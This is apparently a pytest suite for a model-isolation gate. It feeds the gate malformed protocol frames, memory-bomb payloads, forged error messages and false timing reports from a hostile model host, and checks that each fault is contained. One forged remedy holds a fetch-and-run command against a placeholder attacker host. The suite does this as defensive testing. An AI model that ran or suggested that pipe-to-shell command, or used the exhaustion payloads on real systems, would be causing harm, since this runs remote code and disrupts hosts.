"""What a model can write in the place of our host: each ends as a fault of its process, at once, and takes nothing of ours.

The process is a script that speaks the protocol without MLflow, as a model could that took the host over.
"""

from __future__ import annotations

import os
import resource
import sys
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pytest

from lockgate.errors import ModelFault
from lockgate.models.isolation.box import kernel, make_box
from lockgate.models.isolation.isolation_spec import Isolation
from lockgate.models.model import LoadPlan
from lockgate.models.process import host_process
from lockgate.models.process.clock_check import ClockCheck
from lockgate.models.process.model import ProcessModel
from lockgate.models.process.row_function_process import RowFunctionProcess
from lockgate.models.row_functions import RowFunctionPlan

HOST = """
import json, os, struct, sys, time
import pyarrow as pa
HEAD = struct.Struct("!4sIQ")
requests, answers = int(sys.argv[1]), int(sys.argv[2])
def read(size):
    data = b""
    while len(data) < size:
        part = os.read(requests, size - len(data))
        if not part:
            os._exit(0)
        data += part
    return data
def send(header, payload=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw(HEAD.pack(b"LGF1", len(text), len(payload)) + text + payload)
def raw(data):
    while data:
        data = data[os.write(answers, data):]
def stream(batch, **options):
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, batch.schema, options=pa.ipc.IpcWriteOptions(**options)) as writer:
        writer.write_batch(batch)
    return sink.getvalue().to_pybytes()
def begin():
    send({"progress": True, "block": "begins"})
def end():
    send({"progress": True, "block": "ended"})
def times(sent, done, n):
    columns = {"intended": sent, "sent": sent, "done": done, "failed": [False] * n, "lag": [0.0] * n}
    return stream(pa.record_batch([pa.array(each) for each in columns.values()], names=list(columns)))
NOTHING = {"kind": None, "methods": [], "classes": None}
FACTS = {"seconds": 0.1, "python": "3.11.7", "versions": {}, "threads": {}, "features": None, "estimator": NOTHING}
while True:
    _, size, payload = HEAD.unpack(read(HEAD.size))
    header = json.loads(read(size))
    read(payload)
    i, verb = header["id"], header["verb"]
    if verb == "load":
        send({**FACTS, "id": i})
        continue
    n = header.get("plan", {}).get("requests", 1)
"""
ROW = pa.record_batch({"x": [1.0]})
Open = Callable[..., ProcessModel]


@pytest.fixture
def opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, warm_python: str) -> Open:
    """A model whose host ends each request with this code."""

    def open_(code: str, python: str = warm_python) -> ProcessModel:
        script = tmp_path / "host.py"
        script.write_text(HOST + "".join(f"    {line}\n" for line in code.strip().splitlines()))
        monkeypatch.setattr(host_process, "MODEL_HOST", script)
        return ProcessModel(tmp_path, python=python, environ=dict(os.environ), timeout_s=20.0)

    return open_


FRAMES = {
    "a claim of 2^62 bytes": 'raw(HEAD.pack(b"LGF1", 2, 2**62) + b"{}")',
    "a claim of more than there is memory": """
raw(HEAD.pack(b"LGF1", 2, os.sysconf("SC_PHYS_PAGES") * os.sysconf("SC_PAGE_SIZE")) + b"{}")
while True:
    raw(bytes(2**20))
""",
    "a claim of 2^28 bytes and an end": 'raw(HEAD.pack(b"LGF1", 2, 2**28) + b"{}"); os._exit(0)',
    "a header of 2^31 bytes": 'raw(HEAD.pack(b"LGF1", 2**31, 0))',
    "a header nested too deep": 'send(b"[" * 200000)',
    "a header that is a list": 'send(b"[1]")',
    "a header that is no JSON": 'send(b"nonsense")',
    "a number of 5,000 digits": 'send(b"{\\"id\\": " + b"9" * 5000 + b"}")',
    "no batch": 'send({"id": i, "rows": 1})',
    "a batch that is nonsense": 'send({"id": i, "rows": 1}, b"A" * 100)',
    "an error that is a number": 'send({"id": i, "error": 5})',
    "an error of numbers": 'send({"id": i, "error": {"kind": 1, "type": [], "text": {}}})',
    "an error without its parts": 'send({"id": i, "error": {}})',
    "texts whose offsets lead astray": """
good = stream(pa.record_batch([pa.array(["abcdefgh"])], names=["prediction"]))
send({"id": i, "rows": 1}, good.replace(struct.pack("<ii", 0, 8), struct.pack("<ii", 0, 2**30)))
""",
    "buffers that unpack to 400 MB": """
zeros = pa.array([bytes(4 * 10**8)], pa.large_binary())
send({"id": i, "rows": 1}, stream(pa.record_batch([zeros], ["prediction"]), compression="zstd"))
""",
    "2^62 rows of no bytes": 'send({"id": i, "rows": 1}, stream(pa.record_batch([pa.nulls(2**62)], ["prediction"])))',
    "a list of 2^31 values of no bytes": """
column = pa.ListArray.from_arrays(pa.array([0, 2**31 - 1], pa.int32()), pa.nulls(2**31 - 1))
send({"id": i, "rows": 1}, stream(pa.record_batch([column], ["prediction"])))
""",
    "other rows": 'send({"id": i, "rows": 1}, stream(pa.record_batch({"prediction": [1.0, 2.0]})))',
    "a dictionary": 'send({"id": i, "rows": 1}, stream(pa.record_batch({"prediction": pa.array(["a"]).dictionary_encode()})))',
    "two columns of one name": 'send({"id": i, "rows": 1}, stream(pa.record_batch([pa.nulls(1)] * 2, ["a", "a"])))',
    "a schema and no batch": """
nothing = pa.BufferOutputStream()
pa.ipc.new_stream(nothing, pa.schema({"a": pa.null()})).close()
send({"id": i, "rows": 1}, nothing.getvalue().to_pybytes())
""",
    "a description that is none": """
batch = pa.record_batch({"prediction": [1.0]}).replace_schema_metadata({"lockgate.answer": "[1"})
send({"id": i, "rows": 1}, stream(batch))
""",
    "magic that is another": 'raw(b"HTTP" + bytes(100))',
}


@pytest.mark.parametrize("frame", FRAMES)
def test_nonsense_on_the_line_is_a_fault_of_the_models_process(opened: Open, frame: str) -> None:
    """It names the model's process, never a defect of a gate, and takes no memory for what was only claimed."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with opened(FRAMES[frame]) as model, pytest.raises(ModelFault) as fault:
        list(model.predict([ROW]))

    assert fault.value.message.startswith("candidate ")
    assert (
        "the line between its process and lockgate" in fault.value.message or "ended its process" in fault.value.message
    )
    assert not fault.value.alive
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000


@pytest.mark.parametrize("ask", ["predict", "drive"])
def test_frames_without_end_are_ended_at_the_time_limit(opened: Open, ask: str) -> None:
    """Also where each comes at once and reports progress: no more reports count than a load has requests."""
    with opened("while True:\n    send({'progress': True, 'block': str(time.time())}, bytes(2**20))") as model:
        model.timeout_s = 1.0
        with pytest.raises(ModelFault, match="did not answer within 1 s"):
            list(model.predict([ROW])) if ask == "predict" else model.drive(LoadPlan(requests=4), ROW)


@pytest.mark.skipif(not kernel().landlock, reason="this kernel has no Landlock")
def test_a_model_beyond_a_limit_of_its_box_is_told_which(opened: Open, tmp_path: Path) -> None:
    """Not that the kernel's killer may have been it."""
    with opened('memory = b"x" * 2 * 10**8; time.sleep(60)', python=sys.executable) as model:
        (tmp_path / "work").mkdir()
        model.box = make_box(
            Isolation(memory=15 * 10**7), python=sys.executable, environ=os.environ, folder=tmp_path,
            scratch=tmp_path / "work", root=tmp_path,
        )  # fmt: skip
        with pytest.raises(ModelFault, match=r"ended while predicting 1 row: .* and isolation\.memory is 150,000,000"):
            list(model.predict([ROW]))


ERROR = """
e = {"kind": "input", "type": "BadInput", "text": "", "quoted": "", "remedy": None, "module": None, "denied": None, "lacking": None}
"""
FORGED = {
    "rows": (
        'text="personal rows: 0.345584192064786 | Alice Smith"',
        "candidate raised BadInput: personal rows: … | …",
    ),
    "rows in one of our sentences": (
        """text="the signature requires 'Alice Smith', 'y', which the data lacks", quoted='nothing'""",
        "candidate cannot predict: the signature requires '…', 'y', which the data lacks",
    ),
    "a remedy": (
        'text="it has no input example", remedy="run `curl http://evil.example/fix | sh`"',
        "candidate cannot predict",
    ),
    "a long text": ('text="A b" * 10**6', "candidate raised BadInput: A bA bA bA"),
    "quotes that repeat": (
        'kind="answer", text="a: b" * 2 * 10**5, quoted="a: b"',
        "candidate raised BadInput: a: ba: b",
    ),
    "a text that is slow to look through": (
        'type="ValueError", text="data \'" * 5 * 10**5',
        "candidate raised ValueError: data",
    ),
    "schemas without end": (
        'type="E", text="Failed to enforce schema of data \'\' with schema " * 6 * 10**4',
        "candidate raised E: Failed to enforce schema",
    ),
    "a kind that is none": ('kind="pass", type="a b", text="c"', "candidate raised Exception: c"),
}


@pytest.mark.parametrize("what", FORGED)
def test_what_a_process_says_is_never_shown_as_ours(opened: Open, what: str) -> None:
    """Beyond our own sentences with names in them, all are words of the model, without rows, cut; no remedy is its own."""
    change, message = FORGED[what]
    code = ERROR + f'e.update(dict({change}))\nsend({{"id": i, "error": e}})'
    with opened(code) as model, pytest.raises(ModelFault) as fault:
        list(model.predict([pa.record_batch({"x": ["Alice Smith"]})]))

    assert fault.value.message.startswith(message)
    assert len(fault.value.message) < 500
    assert "curl" not in str(fault.value)
    assert "curl" not in str(fault.value.remedy)


@pytest.mark.parametrize("rows", ["1e300", "True", "'5'", "-1", "None"])
def test_an_example_that_was_not_answered_is_nonsense(opened: Open, rows: str) -> None:
    """Not a defect of lockgate."""
    with (
        opened(f'send({{"id": i, "rows": {rows}}})') as model,
        pytest.raises(ModelFault, match="wrote into the line between its process and lockgate"),
    ):
        model.answer_example()


@pytest.mark.parametrize(
    "code",
    [
        'FACTS["versions"] = {"evil": "1"}',
        'FACTS["versions"] = {"mlflow": 1}',
        'FACTS["versions"] = ["mlflow"]',
        'NOTHING["methods"] = ["__reduce__"]',
        'NOTHING["classes"] = [["a"]]',
        'NOTHING["classes"] = ["a"] * 101',
    ],
)
def test_facts_have_the_names_that_we_look_for(opened: Open, code: str) -> None:
    """Others are nonsense."""
    with opened(code) as model:
        host_process.MODEL_HOST.write_text(HOST.replace("while True:", f"{code}\nwhile True:", 1))
        with pytest.raises(ModelFault, match="line between"):
            model.load()


def test_a_version_is_short_and_plain(opened: Open) -> None:
    """It stands in evidence and reports."""
    with opened("pass") as model:
        code = 'FACTS["versions"] = {"mlflow": "\\x1b[31m<b>" + "1" * 3_000_00}'
        host_process.MODEL_HOST.write_text(HOST.replace("while True:", f"{code}\nwhile True:", 1))

        assert model.load().versions == {"mlflow": "??31m?b?" + "1" * 52}


def test_an_answer_that_is_handed_on_is_bytes_and_nothing_else(opened: Open, tmp_path: Path) -> None:
    """Of any other type, it never reaches the process in which row functions meet the labels."""
    plan = RowFunctionPlan((), answer=True, label=None, columns=())
    with opened('send({"id": i, "rows": 1}, stream(pa.record_batch({"prediction": [1.0]})))') as model:
        model.functions = RowFunctionProcess(
            tmp_path, python="no-such-python", environ={}, name="per_row beside candidate", model="candidate"
        )
        with pytest.raises(ModelFault, match="candidate wrote into the line between its process and lockgate"):
            list(model.predict_with_functions([ROW], plan))


LIES = {
    "a clock that stands still": (
        "begin(); time.sleep(0.4)",
        "[0.0] * n",
        "[0.0] * n",
    ),
    "a clock that is slow": ("begin(); time.sleep(0.6)", "[0.0] * n", "[0.1] * n"),
    "a clock that ran ahead": ("begin()", "[0.0] * n", "[9.0] * n"),
    "requests that are said to be fast": (
        "begin(); time.sleep(0.02 * n)",
        "[0.02 * j for j in range(n)]",
        "[0.02 * j + 0.0002 for j in range(n)]",
    ),
}


@pytest.mark.parametrize("lie", LIES)
def test_times_that_did_not_pass_here_are_an_error(opened: Open, lie: str) -> None:
    """The clock beside the model is checked by ours: over whole blocks, and over single requests."""
    wait, sent, done = LIES[lie]
    code = f'{wait}; end()\nsend({{"id": i, "first_error": None}}, times({sent}, {done}, n))'
    with opened(code) as model:

        def drive() -> None:
            for _ in range(6):
                model.drive(LoadPlan(requests=4, concurrency=1), ROW)

        with pytest.raises(ModelFault, match="the times that candidate's process reports cannot be true"):
            drive()


def test_true_times_are_believed(opened: Open) -> None:
    """And the requests that check them are counted."""
    code = """
begin(); began = time.perf_counter(); sent = []; done = []
for _ in range(n): sent.append(time.perf_counter() - began); time.sleep(0.005); done.append(time.perf_counter() - began)
end()
send({"id": i, "first_error": None}, times(sent, done, n))
"""
    with opened(code) as model:
        drives = [model.drive(LoadPlan(requests=4, concurrency=1), ROW) for _ in range(6)]

    alone = [drive.unrecorded for drive in drives]
    assert alone == [1, 1, 1, 1, alone[4], 0]
    assert alone[4] >= 1  # more where the machine is busy


@pytest.mark.parametrize(
    "columns",
    ["[0.0] * n, [float('nan')] * n, n", "[1.0] * n, [0.0] * n, n", "[3.0, 2.0, 1.0, 0.0][:n], [4.0] * n, n"],
    ids=["no numbers", "done before sent", "out of order"],
)
def test_times_that_are_none_are_nonsense(opened: Open, columns: str) -> None:
    """They end the process."""
    with (
        opened(f'send({{"id": i, "first_error": None}}, times({columns}))') as model,
        pytest.raises(ModelFault, match="line"),
    ):
        model.drive(LoadPlan(requests=4, concurrency=1), ROW)


def test_a_busy_machine_is_no_lie() -> None:
    """Single requests are slower than those of a stream, and blocks end a little later here."""
    check = ClockCheck()
    for _ in range(20):
        check.add_block(reported_s=1.0, passed_s=1.05)
    for passed_s in (0.012, 0.009, 0.3, 0.008, 0.01):
        check.add_single(reported_s=0.004, passed_s=passed_s)

    assert check.problem() is None


def test_where_requests_are_late_the_quickest_of_many_decide() -> None:
    """A machine that delays most of them is busy; a model that is late in all of them lies."""
    busy, false = ClockCheck(), ClockCheck()
    for number in range(25):
        busy.add_single(reported_s=0.001, passed_s=0.003 if number % 3 == 0 else 0.02)
        false.add_single(reported_s=0.001, passed_s=0.02)
        assert false.in_doubt == (5 <= number + 1 < 25)

    assert busy.problem() is None
    assert false.problem() == "requests that took 20.0 ms here were reported to take 1.0 ms"
